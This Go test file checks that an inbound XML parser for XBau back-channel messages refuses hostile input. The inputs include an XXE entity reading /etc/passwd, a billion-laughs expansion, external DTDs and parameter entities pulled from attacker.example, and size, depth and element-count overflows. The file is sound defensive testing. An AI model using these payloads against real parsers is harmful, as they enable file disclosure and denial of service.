package xoev

import (
	"errors"
	"strings"
	"testing"
)

// TestSecurityInboundBackChannel sends each attack through ParseInbound,
// the parser of every back-channel message (receipts, rejections, status
// messages, decisions pushed to the XTA SendPort or fetched over OSCI), and
// checks the exact error.
func TestSecurityInboundBackChannel(t *testing.T) {
	const ns = `xmlns:xbau="http://www.xleitstelle.de/xbau/2/6"`
	for _, tc := range []struct {
		name, doc, want string
		hostile         bool
	}{
		{"XXE external entity", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><xbau:r ` + ns + `>&x;</xbau:r>`,
			"xoev: inbound: refused XML: DOCTYPE/DTD declarations are not allowed", true},
		{"billion laughs", `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>`,
			"xoev: inbound: refused XML: DOCTYPE/DTD declarations are not allowed", true},
		{"external DTD", `<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>`,
			"xoev: inbound: refused XML: DOCTYPE/DTD declarations are not allowed", true},
		{"parameter entities", `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>`,
			"xoev: inbound: refused XML: DOCTYPE/DTD declarations are not allowed", true},
		{"undeclared entity", `<r>&x;</r>`,
			"xoev: inbound: not well-formed XML: XML syntax error on line 1: invalid character entity &x;", false},
		{"nesting beyond 200", strings.Repeat("<a>", 201) + strings.Repeat("</a>", 201),
			"xoev: inbound: refused XML: element nesting deeper than 200", true},
		{"elements beyond 100000", "<r>" + strings.Repeat("<a/>", 100_000) + "</r>",
			"xoev: inbound: refused XML: more than 100000 elements", true},
		{"message beyond 16 MiB", "<r>" + strings.Repeat("x", 16<<20) + "</r>",
			"xoev: inbound: refused XML: 16777223 bytes exceed the limit of 16777216", true},
		{"undeclared prefix", `<xbau:r/>`,
			`xoev: inbound: not namespace-well-formed XML: undeclared prefix "xbau" on <r>`, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := ParseInbound([]byte(tc.doc))
			if err == nil || err.Error() != tc.want || errors.Is(err, ErrHostileXML) != tc.hostile {
				t.Fatalf("got  %v (hostile %v)\nwant %s", err, errors.Is(err, ErrHostileXML), tc.want)
			}
		})
	}
}

// limits.inbound replaces the defaults (ParseInboundWithin).
func TestSecurityInboundLimitsConfigured(t *testing.T) {
	lim := InboundLimits{MaxBytes: 100, MaxDepth: 3, MaxElements: 4}
	for doc, want := range map[string]string{
		"<a><b><c><d/></c></b></a>":              "xoev: inbound: refused XML: element nesting deeper than 3",
		"<a><b/><b/><b/><b/></a>":                "xoev: inbound: refused XML: more than 4 elements",
		"<a>" + strings.Repeat("x", 94) + "</a>": "xoev: inbound: refused XML: 101 bytes exceed the limit of 100",
	} {
		if _, err := ParseInboundWithin([]byte(doc), lim); err == nil || err.Error() != want || !errors.Is(err, ErrHostileXML) {
			t.Errorf("%.20s…: got %v, want %s", doc, err, want)
		}
	}
	if _, err := ParseInbound([]byte("<a><b><c><d/></c></b></a>")); err != nil {
		t.Fatalf("defaults: %v", err)
	}
}
